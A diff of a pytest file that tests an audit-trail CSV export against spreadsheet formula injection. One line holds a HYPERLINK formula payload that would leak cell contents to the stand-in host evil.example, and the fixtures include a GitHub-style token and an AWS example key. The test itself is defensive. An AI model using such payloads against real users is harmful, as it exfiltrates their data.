@@ -20,9 +20,11 @@ import pytest
 from bots.cli import main
 from bots.serve import _QuietHandler, application
 from handlers import aws_pages
+from shared.auditing.service import encoded
 from shared.config import Settings
 from tests.support.local import investigated
 from tests.support.payloads import LambdaContext, load
+from tests.support.terminal import trail_entries
 
 GITHUB = "ghp_u8jzPde0IgxLd6GncfBAepfJBd0Kh8oOOL8d"
 AWS_SECRET = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"
@@ -57,19 +59,28 @@ def test_free_text_with_secrets_is_stored_nowhere_in_the_clear(
 def test_an_audit_csv_export_runs_no_formula(
     home: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
-    # GIVEN a denied request by a user whose name is a spreadsheet formula
+    # GIVEN a user whose name is a spreadsheet formula: refused at the door, nothing recorded
     evil = '=HYPERLINK("http://evil.example/?"&A1,"open")'
-    assert main(["--as", evil, "team", "member", "add", "mallory"]) == 3
-    assert main(["--as", "@SUM(1+1)", "team", "member", "add", "mallory"]) == 3
+    assert main(["--as", evil, "team", "member", "add", "mallory"]) == 2
+    assert main(["--as", "@SUM(1+1)", "team", "member", "add", "mallory"]) == 2
     # WHEN an auditor exports the trail as CSV
     assert main(["audit", "export", "--format", "csv"]) == 0
     path = _field(capsys.readouterr().out, "Where")
     rows = list(csv.reader(io.StringIO(Path(path).read_text())))
-    # THEN no cell starts with a character a spreadsheet reads as a formula
+    # THEN no cell starts with a character a spreadsheet reads as a formula, and the names are not
+    # there at all
     cells = [cell for row in rows[1:] for cell in row]
-    assert f"'{evil}" in cells
-    assert "'@SUM(1+1)" in cells
     assert not [c for c in cells if c[:1] in {"=", "+", "-", "@", "\t", "\r"}]
+    assert not [c for c in cells if "HYPERLINK" in c or "SUM(" in c]
+    # AND an entry that carries one anyway (another platform's id, an older trail) is made inert
+    (entry,) = trail_entries(home)[-1:]
+    actor = entry.actor.model_copy(update={"user": evil})
+    crafted = entry.model_copy(update={"actor": actor, "target": "@SUM(1+1)"})
+    content, kind = encoded([crafted], "csv")
+    (row,) = list(csv.reader(io.StringIO(content.decode())))[1:]
+    assert kind == "text/csv"
+    assert f"'{evil}" in row
+    assert "'@SUM(1+1)" in row
 
 
 @pytest.fixture
